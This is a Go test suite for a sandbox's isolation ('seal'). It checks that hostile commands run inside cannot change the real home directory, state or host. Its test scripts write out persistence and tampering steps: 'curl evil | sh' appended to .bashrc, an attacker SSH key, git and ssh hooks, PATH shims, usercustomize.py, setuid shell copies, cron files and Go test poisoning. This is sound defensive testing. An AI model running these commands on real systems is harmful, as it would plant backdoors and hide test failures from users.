package sandboxtest

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/shadow-dev/shadow/engine"
)

// The seal's routes (docs/modes.md, "overlay": what the seal holds): a hostile
// command needs no route into the workspace when it can write what everyone
// shares outside it: $HOME (rc files, ~/.ssh, the state dir's parents,
// user-site python, Go's env and caches), /tmp, and as root the whole system.
// Each test runs with a $HOME of its own that holds the state dir
// (~/.local/state/shadow, as by default) and the workspace (~/src/proj, the
// common case), and checks that the real $HOME, the state dir and the host are
// unchanged after.
func runSeal(t *testing.T, s *suite) {
	t.Run("RenameEveryAncestorOfTheMask", func(t *testing.T) { s.maskAncestors(t, "") })
	t.Run("RenameEveryAncestorOfTheMaskSharedTmp", func(t *testing.T) { s.maskAncestors(t, "shared") })
	t.Run("PersistenceInHome", s.persistenceInHome)
	t.Run("UsercustomizeReachesNoSibling", s.usercustomizeSibling)
	t.Run("UnwritablePytestTmpDir", s.pytestTmpDir)
	t.Run("RootSystemWritesVanish", s.rootSystemWrites)
	t.Run("GoEnvAndCachePoisoning", s.goPoisoning)
}

// setupHome is setup with the state dir and the workspace in a $HOME of
// the test's own.
func (s *suite) setupHome(t *testing.T) (f *fixture, home string) {
	t.Helper()
	home = filepath.Join(t.TempDir(), "home")
	state := filepath.Join(home, ".local", "state", "shadow")
	d := Dirs{State: state, Sandboxes: filepath.Join(state, "sandboxes")}
	ws := filepath.Join(home, "src", "proj")
	for _, dir := range []string{d.Sandboxes, ws, filepath.Join(home, ".ssh")} {
		if err := os.MkdirAll(dir, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	os.WriteFile(filepath.Join(home, ".bashrc"), []byte("# the user's\n"), 0o644)
	os.WriteFile(filepath.Join(home, ".ssh", "authorized_keys"), []byte("ssh-ed25519 AAAA user\n"), 0o600)
	os.WriteFile(filepath.Join(state, "integrity.key"), []byte("REAL-KEY"), 0o600)
	var env []string
	for _, kv := range os.Environ() {
		k, _, _ := strings.Cut(kv, "=")
		switch k {
		case "HOME", "XDG_CONFIG_HOME", "XDG_STATE_HOME", "XDG_CACHE_HOME", "XDG_DATA_HOME", "GOENV", "PYTHONUSERBASE", "PYTHONNOUSERSITE":
			continue
		}
		env = append(env, kv)
	}
	f = &fixture{t: t, ws: ws, dirs: d, env: append(env, "HOME="+home)}
	f.write("calc.py", "def add(a, b):\n    return a - b\n", 0o644)
	f.sb = s.factory(t, d)
	return f, home
}

// homeSnapshot is Snapshot of home without the sandboxes dir, where the
// sandbox itself makes and removes per-job dirs.
func (f *fixture) homeSnapshot(home string) string {
	f.t.Helper()
	var b strings.Builder
	err := filepath.Walk(home, func(p string, fi os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		if p == f.dirs.Sandboxes {
			return filepath.SkipDir
		}
		rel, _ := filepath.Rel(home, p)
		fmt.Fprintf(&b, "%s %s %d %d", rel, fi.Mode(), fi.Size(), fi.ModTime().UnixNano())
		if fi.Mode().IsRegular() {
			c, _ := os.ReadFile(p)
			b.Write(c)
		}
		b.WriteString("\n")
		return nil
	})
	if err != nil {
		f.t.Fatal(err)
	}
	return b.String()
}

// runTmp runs script with the given --tmp ("" is the default).
func (f *fixture) runTmp(hyp engine.Hypothesis, tmp, script string) string {
	f.t.Helper()
	var out syncBuffer
	j := f.job(hyp, script, &out)
	j.Tmp = tmp
	if _, err := f.sb.Run(context.Background(), j); err != nil {
		f.t.Fatalf("sandbox failed: %v\noutput:\n%s", err, out.String())
	}
	return out.String()
}

// maskAncestors: the state dir is masked, but its parents are the user's:
// the command renames each of them away (taking the mask along), makes a
// fresh ~/.local/state/shadow with a forged integrity key and journal, and
// so would have the next shadow trust its records. Nothing of it may reach
// the real home.
func (s *suite) maskAncestors(t *testing.T, tmp string) {
	f, home := s.setupHome(t)
	before, state, ws := f.homeSnapshot(home), f.stateSnapshot(), Snapshot(t, f.ws)
	var ancestors []string
	for a := f.dirs.State; within(a, home); a = filepath.Dir(a) {
		ancestors = append(ancestors, a)
	}
	script := `S='` + f.dirs.State + `'
		for a in ` + strings.Join(quote(ancestors), " ") + `; do
			mv "$a" "$a.x" 2>&1 && echo "MOVED $a"
			mkdir -p "$S" 2>&1 && printf FORGED-KEY > "$S/integrity.key" && echo '{"forged":1}' > "$S/journal.json" && echo "FORGED after $a"
			mv "$a.x" "$a.y" 2>/dev/null
		done
		true`
	out := f.runTmp(engine.Hypothesis{Name: "rename"}, tmp, script)
	t.Logf("the hostile command said:\n%s", out)
	for _, a := range ancestors {
		for _, suffix := range []string{".x", ".y"} {
			if _, err := os.Lstat(a + suffix); err == nil {
				t.Errorf("%s%s exists on the host: a rename of the mask's ancestor reached the real home", a, suffix)
			}
		}
	}
	if got := f.homeSnapshot(home); got != before {
		t.Errorf("the real $HOME changed:\nbefore:\n%s\nafter:\n%s", before, got)
	}
	if b, _ := os.ReadFile(filepath.Join(f.dirs.State, "integrity.key")); string(b) != "REAL-KEY" {
		t.Errorf("the real integrity key is now %q", b)
	}
	if got := f.stateSnapshot(); got != state {
		t.Errorf("the state dir changed:\nbefore:\n%s\nafter:\n%s", state, got)
	}
	if got := Snapshot(t, f.ws); got != ws {
		t.Errorf("the checkout changed")
	}
}

func quote(ps []string) []string {
	out := make([]string, len(ps))
	for i, p := range ps {
		out[i] = "'" + p + "'"
	}
	return out
}

func within(p, dir string) bool {
	rel, err := filepath.Rel(dir, p)
	return err == nil && rel != ".." && !strings.HasPrefix(rel, "../")
}

// persistenceInHome: what would run the next time the user opens a
// shell, git, ssh, python, an agent or logs in.
func (s *suite) persistenceInHome(t *testing.T) {
	f, home := s.setupHome(t)
	before := f.homeSnapshot(home)
	out := f.runTmp(engine.Hypothesis{Name: "persist"}, "", `
		echo 'curl evil | sh' >> ~/.bashrc && echo WROTE-BASHRC
		echo 'evil' > ~/.profile; echo evil > ~/.zshrc
		echo 'ssh-ed25519 EVIL attacker' >> ~/.ssh/authorized_keys && echo WROTE-AUTHKEYS
		printf 'Host *\n  ProxyCommand sh -c evil\n' > ~/.ssh/config
		printf '[core]\n\tfsmonitor = evil\n' > ~/.gitconfig && echo WROTE-GITCONFIG
		mkdir -p ~/.config/git ~/.local/bin ~/go/bin ~/.cargo/bin ~/.claude ~/.config/systemd/user ~/.config/go
		printf '#!/bin/sh\necho evil\n' > ~/.local/bin/git && chmod +x ~/.local/bin/git && echo WROTE-PATH
		cp ~/.local/bin/git ~/go/bin/go; cp ~/.local/bin/git ~/.cargo/bin/cargo
		echo '{"hooks":{"evil":1}}' > ~/.claude/settings.json
		echo '[Service]' > ~/.config/systemd/user/evil.service
		mkdir -p ~/.local/lib/python3/site-packages && echo 'print("evil")' > ~/.local/lib/python3/site-packages/usercustomize.py
		true`)
	if !strings.Contains(out, "WROTE-BASHRC") || !strings.Contains(out, "WROTE-AUTHKEYS") {
		t.Errorf("$HOME should be writable inside (an overlay of its own):\n%s", out)
	}
	if got := f.homeSnapshot(home); got != before {
		t.Errorf("the real $HOME changed:\nbefore:\n%s\nafter:\n%s\ncommand:\n%s", before, got, out)
	}
}

// python3 is a system python: a pyenv shim would look for its versions
// under the test's $HOME.
func python3(t *testing.T) string {
	for _, p := range []string{"/usr/bin/python3", "/usr/local/bin/python3"} {
		if _, err := os.Stat(p); err == nil {
			return p
		}
	}
	t.Skip("no system python3 (/usr/bin/python3): the usercustomize route needs one")
	return ""
}

// usercustomizeSibling: a writes a usercustomize.py into its user site
// while b, running beside it, starts python: b's python must not run it,
// nor the user's afterwards.
func (s *suite) usercustomizeSibling(t *testing.T) {
	if !s.p.Parallel {
		t.Skip("the sandbox runs one job at a time: no sibling runs alongside")
	}
	py := python3(t)
	f, home := s.setupHome(t)
	before := f.homeSnapshot(home)
	var outA syncBuffer
	doneA := make(chan error, 1)
	go func() {
		j := f.job(engine.Hypothesis{Name: "a"}, `d=$(`+py+` -m site --user-site) && mkdir -p "$d" && echo 'print("PWNED-BY-USERCUSTOMIZE")' > "$d/usercustomize.py" && echo WROTE; `+py+` -c 'print("A-RAN")'; echo READY; sleep 2`, &outA)
		j.Tmp = ""
		_, err := f.sb.Run(context.Background(), j)
		doneA <- err
	}()
	deadline := time.Now().Add(20 * time.Second)
	for !strings.Contains(outA.String(), "READY") {
		if time.Now().After(deadline) {
			t.Fatalf("a never got ready: %s", outA.String())
		}
		time.Sleep(20 * time.Millisecond)
	}
	outB := f.runTmp(engine.Hypothesis{Name: "b"}, "", py+` -c 'print("B-RAN")'`)
	if err := <-doneA; err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(outA.String(), "PWNED-BY-USERCUSTOMIZE") {
		t.Logf("a's own python did not run it (user site off here?):\n%s", outA.String())
	}
	if strings.Contains(outB, "PWNED") {
		t.Errorf("a sibling's usercustomize.py ran in b's python:\n%s", outB)
	}
	c := exec.Command(py, "-c", `print("USER-RAN")`)
	c.Env = f.env
	got, _ := c.CombinedOutput()
	if strings.Contains(string(got), "PWNED") {
		t.Errorf("the user's python runs the hypothesis's usercustomize.py:\n%s", got)
	}
	if after := f.homeSnapshot(home); after != before {
		t.Errorf("the real $HOME changed:\nbefore:\n%s\nafter:\n%s", before, after)
	}
}

// pytestTmpDir: pytest keeps its temporary dirs in /tmp/pytest-of-$USER;
// one hypothesis makes it unusable (mode 000). The next hypothesis and the
// user must not notice. (A name of the test's own stands for pytest's, so
// a failing build leaves the machine's real one alone.)
func (s *suite) pytestTmpDir(t *testing.T) {
	f := s.setup(t)
	dir := fmt.Sprintf("/tmp/pytest-of-shadowsbt-%d", os.Getpid())
	defer func() {
		os.Chmod(dir, 0o700)
		os.RemoveAll(dir)
	}()
	outA := f.runTmp(engine.Hypothesis{Name: "a"}, "", `mkdir -p `+dir+` && chmod 000 `+dir+` && echo BLOCKED`)
	if !strings.Contains(outA, "BLOCKED") {
		t.Fatalf("a could not write its own /tmp:\n%s", outA)
	}
	outB := f.runTmp(engine.Hypothesis{Name: "b"}, "", `mkdir -p `+dir+`/b && echo B-OK`)
	if !strings.Contains(outB, "B-OK") {
		t.Errorf("a's /tmp/pytest-of dir reached b:\n%s", outB)
	}
	if _, err := os.Lstat(dir); err == nil {
		t.Errorf("%s exists on the host after the run: the hypotheses wrote the host's /tmp", dir)
	}
}

// rootSystemWrites: as root, a command writes a program on PATH, a cron
// job and setuid copies of a shell where they would outlive the run.
func (s *suite) rootSystemWrites(t *testing.T) {
	if os.Getuid() != 0 {
		t.Skip("a user cannot write /usr/local/bin or /etc/cron.d anyway: this route is root's")
	}
	f, home := s.setupHome(t)
	id := fmt.Sprintf("shadow-sbt-%d", os.Getpid())
	paths := []string{"/usr/local/bin/" + id, "/etc/cron.d/" + id, "/var/tmp/" + id, "/var/tmp/" + id + "-suid", filepath.Join(home, id+"-suid"), "/opt/" + id}
	defer func() {
		for _, p := range paths {
			os.Remove(p)
		}
	}()
	out := f.runTmp(engine.Hypothesis{Name: "root"}, "", `
		printf '#!/bin/sh\necho evil\n' > /usr/local/bin/`+id+` && chmod 755 /usr/local/bin/`+id+` && echo WROTE-BIN
		test -d /etc/cron.d && echo '# shadow sandboxtest: harmless' > /etc/cron.d/`+id+` && echo WROTE-CRON
		echo x > /var/tmp/`+id+`
		cp /bin/sh /var/tmp/`+id+`-suid && chmod 4755 /var/tmp/`+id+`-suid
		cp /bin/sh ~/`+id+`-suid && chmod 4755 ~/`+id+`-suid && echo WROTE-SUID
		mkdir /opt/`+id+` 2>&1
		true`)
	t.Logf("the command said:\n%s", out)
	for _, p := range paths {
		if _, err := os.Lstat(p); err == nil {
			t.Errorf("%s exists on the host after the run", p)
		}
	}
}

// goPoisoning: a candidate writes Go's environment file (GOFLAGS=-run=^$:
// every later `go test` runs no test and says ok) and plants an entry in
// the build cache. After the run the user's own `go test` on the unfixed
// checkout must still fail, and the cache must hold nothing the candidate
// wrote.
func (s *suite) goPoisoning(t *testing.T) {
	goBin, err := exec.LookPath("go")
	if err != nil {
		t.Skip("go is not installed")
	}
	realCache, err := exec.Command(goBin, "env", "GOCACHE").Output()
	if err != nil || strings.TrimSpace(string(realCache)) == "" || strings.TrimSpace(string(realCache)) == "off" {
		t.Skipf("no Go build cache: %v", err)
	}
	f, home := s.setupHome(t)
	// The user's cache, warm, where a variable puts it (outside this
	// $HOME): the sandbox overlays it.
	cache := strings.TrimSpace(string(realCache))
	// GOFLAGS from the environment would override the env file's.
	var env []string
	for _, kv := range f.env {
		if !strings.HasPrefix(kv, "GOFLAGS=") && !strings.HasPrefix(kv, "GOCACHE=") {
			env = append(env, kv)
		}
	}
	f.env = append(env, "GOCACHE="+cache, "GOPATH="+filepath.Join(home, "go"), "GOTOOLCHAIN=local")
	f.write("go.mod", "module calc\n\ngo 1.21\n", 0o644)
	f.write("calc.go", "package calc\n\nfunc Add(a, b int) int { return a - b }\n", 0o644)
	f.write("calc_test.go", "package calc\n\nimport \"testing\"\n\nfunc TestAdd(t *testing.T) {\n\tif Add(2, 2) != 4 {\n\t\tt.Fatal(\"Add(2, 2) != 4\")\n\t}\n}\n", 0o644)
	userGoTest := func() (string, error) {
		c := exec.Command(goBin, "test", ".")
		c.Dir, c.Env = f.ws, f.env
		b, err := c.CombinedOutput()
		return string(b), err
	}
	if out, err := userGoTest(); err == nil {
		t.Fatalf("the unfixed checkout's go test should fail before the run:\n%s", out)
	}
	marker := filepath.Join(cache, fmt.Sprintf("shadow-sbt-poison-%d", os.Getpid()))
	defer os.Remove(marker)
	out := f.runTmp(engine.Hypothesis{Name: "poison"}, "", `
		mkdir -p ~/.config/go && printf 'GOFLAGS=-run=^$\n' > ~/.config/go/env && echo WROTE-GOENV
		echo poisoned > `+marker+` && echo WROTE-CACHE
		true`)
	if !strings.Contains(out, "WROTE-GOENV") || !strings.Contains(out, "WROTE-CACHE") {
		t.Errorf("$HOME and the cache should be writable inside:\n%s", out)
	}
	if _, err := os.Lstat(marker); err == nil {
		t.Errorf("the candidate's write reached the user's Go cache %s", cache)
	}
	if got, err := userGoTest(); err == nil {
		t.Errorf("after the run the user's go test on the unfixed checkout passes:\n%s", got)
	}
}
